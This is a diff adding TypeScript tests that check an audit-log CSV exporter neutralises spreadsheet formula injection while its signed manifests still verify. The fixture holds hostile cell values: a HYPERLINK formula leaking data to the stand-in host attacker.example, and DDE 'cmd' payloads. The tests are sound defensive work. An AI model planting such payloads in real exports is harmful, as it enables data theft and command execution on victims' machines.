@@ -1,3 +1,4 @@
+import { createHash, sign } from "node:crypto";
 import { Writable } from "node:stream";
 import { beforeAll, describe, expect, it } from "vitest";
 import { setupMigratedDatabase } from "@/lib/testing/setup-migrated-database";
@@ -13,7 +14,7 @@ import {
   readExportEvents,
   type ExportFormat,
 } from "./export-formats";
-import type { ExportManifest } from "./export-manifest";
+import { encodeManifest, type ExportManifest } from "./export-manifest";
 import type { AuditFilters } from "./audit-filters";
 import { randomEventInput, seededRandom } from "./testing/audit-fixtures";
 import { createTestSigningKey } from "./testing/test-signing-key";
@@ -232,5 +233,110 @@ describe("audit exports", () => {
       expect(result.chain.broken?.kind).toBe(kind);
       expect(edit.expected).toContain(result.chain.broken?.seq);
     });
+  });
+});
+
+// Issue #13, item 4: CSV formula injection through a forged address or user agent.
+describe("CSV exports neutralise spreadsheet formulas", () => {
+  const { pool } = setupMigratedDatabase({ poolMax: 3 });
+  const key = createTestSigningKey();
+  const hostile = {
+    ip: '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
+    userAgent: "=cmd|' /C calc'!A0",
+    name: "@SUM(1+1)*cmd|' /C calc'!A0",
+    userId: "'already quoted",
+  };
+
+  beforeAll(async () => {
+    await appendAuditEvent(pool, {
+      action: "auth.sign_in",
+      outcome: "failure",
+      actor: hostile,
+      target: { name: "+1+cmd", namespace: "-2+3", kind: "\tTab", cluster: "\r=1+1" },
+      requestId: "-",
+      details: { note: "=1+1" },
+    });
+    await appendAuditEvent(pool, { action: "auth.sign_in", outcome: "success", actor: { name: "plain" } });
+  });
+
+  const exportAs = async (format: ExportFormat) => {
+    const output = new Collect();
+    const manifest = await exportAuditEvents({ pool, key, filters: {}, format, output });
+    return { text: output.text, manifest };
+  };
+
+  it("prefixes every cell a spreadsheet would evaluate, and `audit verify` still verifies the file", async () => {
+    const { text, manifest } = await exportAs("csv");
+    expect(manifest.version).toBe(2);
+    expect(text).toContain(`,"'=cmd|' /C calc'!A0",`);
+    expect(text).toContain(`"'=HYPERLINK(""http://attacker.example/?leak=""&A1,""Click"")"`);
+    expect(text).toContain(`,"''already quoted",`);
+
+    // As a spreadsheet sees the cells: none starts with = + - @ TAB or CR.
+    const cells: (string | null)[] = [];
+    for await (const event of readExportEvents(chunksOf(text), "csv", undefined, { rawCsv: true }))
+      cells.push(...eventToTextRow(event));
+    expect(cells.filter((cell) => cell !== null && /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+
+    const result = await verifyExport({
+      chunks: chunksOf(text),
+      format: "csv",
+      manifest,
+      publicKeyPem: key.publicKeyPem,
+    });
+    expect(result.problems).toEqual([]);
+    expect(result).toMatchObject({ ok: true, chain: { ok: true, count: 2 } });
+
+    // Reading recovers the values the chain hashed: the same as the NDJSON export's.
+    const fromCsv = await parse("csv", text);
+    expect(fromCsv).toEqual(await parse("ndjson", (await exportAs("ndjson")).text));
+    expect(fromCsv[0]).toMatchObject({
+      actorIp: hostile.ip,
+      actorUserAgent: hostile.userAgent,
+      actorName: hostile.name,
+      actorUserId: hostile.userId,
+      targetName: "+1+cmd",
+      targetNamespace: "-2+3",
+      targetKind: "\tTab",
+      targetCluster: "\r=1+1",
+      requestId: "-",
+    });
+    // The exporter (Postgres' COPY) and the formatter the verifier mirrors agree byte for byte.
+    expect(serialize("csv", fromCsv)).toBe(text);
+  });
+
+  it("still verifies a version 1 export, written before cells were neutralised", async () => {
+    const { text, manifest } = await exportAs("ndjson");
+    const events = await parse("ndjson", text);
+    const quote = (value: string) => `"${value.replaceAll('"', '""')}"`;
+    const raw =
+      exportPrologue("csv") +
+      events
+        .map((event) => {
+          const [seq, ...rest] = eventToTextRow(event);
+          return `${[seq, ...rest.map((value) => (value === null ? "" : quote(value)))].join(",")}\n`;
+        })
+        .join("");
+    const unsigned = {
+      ...manifest,
+      version: 1 as const,
+      format: "csv" as const,
+      fileSha256: createHash("sha256").update(raw).digest("hex"),
+    };
+    const { signature: _old, ...withoutSignature } = unsigned;
+    const v1: ExportManifest = {
+      ...withoutSignature,
+      signature: sign(null, encodeManifest(withoutSignature), key.privateKey).toString("base64"),
+    };
+    const result = await verifyExport({
+      chunks: chunksOf(raw),
+      format: "csv",
+      manifest: v1,
+      publicKeyPem: key.publicKeyPem,
+    });
+    expect(result.problems).toEqual([]);
+    expect(result.ok).toBe(true);
+    // The same bytes read as a current export would lose the user id's own leading quote.
+    expect((await verifyExport({ chunks: chunksOf(raw), format: "csv" })).ok).toBe(false);
   });
 });
